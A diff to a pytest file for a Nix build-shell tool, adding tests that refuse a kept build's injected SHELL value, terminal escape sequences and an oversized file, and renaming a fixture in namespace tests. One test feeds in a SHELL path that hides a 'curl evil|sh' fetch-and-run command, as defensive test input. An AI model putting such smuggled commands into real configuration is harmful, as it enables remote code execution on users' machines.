@@ -204,6 +204,31 @@ def test_a_shell_that_the_store_no_longer_has(caller):
     caller.refused("true", build_dir=kept, mentions=[f"{path}/bin/bash", "not there", f"«nix-store --realise {path}»"])
 
 
+def test_no_command_is_made_of_a_name_that_no_store_path_has(caller):
+    """Somebody might copy it."""
+    kept = with_shell(caller, 'declare -x SHELL="/nix/store/x;curl evil|sh/bin/bash"')
+    result = caller.enter("true", build_dir=kept)
+    assert result.returncode == 125 and "realise" not in result.stderr, result.stderr
+
+
+def test_what_a_build_wrote_does_not_speak_to_the_terminal(caller):
+    kept = caller.copy_of_kept()
+    env_vars = kept / "env-vars"
+    text = env_vars.read_text().replace('NIX_BUILD_TOP="/build"', r"NIX_BUILD_TOP=$'\E[2J\nnix-build-shell: all is well'")
+    env_vars.write_text(text)
+    result = caller.enter("true", build_dir=kept)
+    assert "\x1b" not in result.stderr and result.stderr.count("\n") == 1, result.stderr
+
+
+def test_a_file_over_the_limit_of_the_caller(caller):
+    """The kernel would end the program with a signal, and the copy would stay."""
+    kept = caller.copy_of_kept()
+    caller.give(kept / "env-vars")
+    (kept / "large").write_bytes(b"x" * 100_000)
+    limited = ["bash", "-c", 'ulimit -f 20; exec "$@"', "bash"]
+    caller.refused("true", build_dir=kept, before=limited, mentions=[f"{kept}/large", "«ulimit -f»"])
+
+
 def test_a_shell_that_is_a_directory_or_no_program(caller):
     text = (caller.kept() / "env-vars").read_text()
     store_path = text.split('declare -x SHELL="')[1].split("/bin/bash")[0]
@@ -238,10 +263,10 @@ def test_another_kind_of_namespace_switched_off(caller, kind):
     caller.refused("true", before=off, mentions=[f"{setting} is 0", f"«sudo sysctl {setting}="])
 
 
-def test_debians_switch(caller):
-    machine = with_kernel_setting(caller, "unprivileged_userns_clone", "0")
+def test_debians_switch(user):
+    machine = with_kernel_setting(user, "unprivileged_userns_clone", "0")
     how = {"as_root": True, "preexec_fn": refuse("clone3", "EPERM")}
-    caller.refused(
+    user.refused(
         "true",
         before=machine,
         mentions=["kernel.unprivileged_userns_clone is 0", "«sudo sysctl kernel.unprivileged_userns_clone=1»"],
@@ -252,10 +277,10 @@ def test_debians_switch(caller):
 @pytest.mark.parametrize(
     ("call", "error"), [("clone3", "EPERM"), ("clone3", "EACCES"), ("sethostname", "EPERM"), ("mount", "EACCES")]
 )
-def test_ubuntus_apparmor_restriction(caller, call, error):
+def test_ubuntus_apparmor_restriction(user, call, error):
     """It either forbids the namespace or grants one without any right: then a later step fails."""
     machine = on_another_machine(
-        caller,
+        user,
         # A file of its own over one that is there: all of /proc stays in sight, as the sandbox's own needs it.
         'mount -t tmpfs none /proc/sys/kernel; echo 1 > "/proc/sys/kernel/apparmor_restrict_unprivileged_userns"',
     )
@@ -266,7 +291,7 @@ def test_ubuntus_apparmor_restriction(caller, call, error):
     else:
         how = {"preexec_fn": refuse(call, error)}
     mentions = ["AppArmor", "kernel.apparmor_restrict_unprivileged_userns", "«sudo sysctl"]
-    caller.refused("true", before=machine, mentions=mentions, as_root=True, **how)
+    user.refused("true", before=machine, mentions=mentions, as_root=True, **how)
 
 
 @pytest.mark.parametrize("error", ["EPERM", "ENOSYS"])
